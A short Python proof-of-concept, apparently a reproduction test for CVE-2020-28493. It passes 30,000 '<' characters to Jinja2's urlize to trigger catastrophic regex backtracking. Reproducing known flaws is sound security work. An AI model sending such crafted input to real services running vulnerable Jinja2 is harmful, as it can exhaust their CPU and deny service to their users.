# CVE-2020-28493 (PYSEC-2021-66): urlize's punctuation regex backtracks on long runs.
from jinja2.utils import urlize

urlize("<" * 30000 + "x" + " " * 0)
print("urlized")
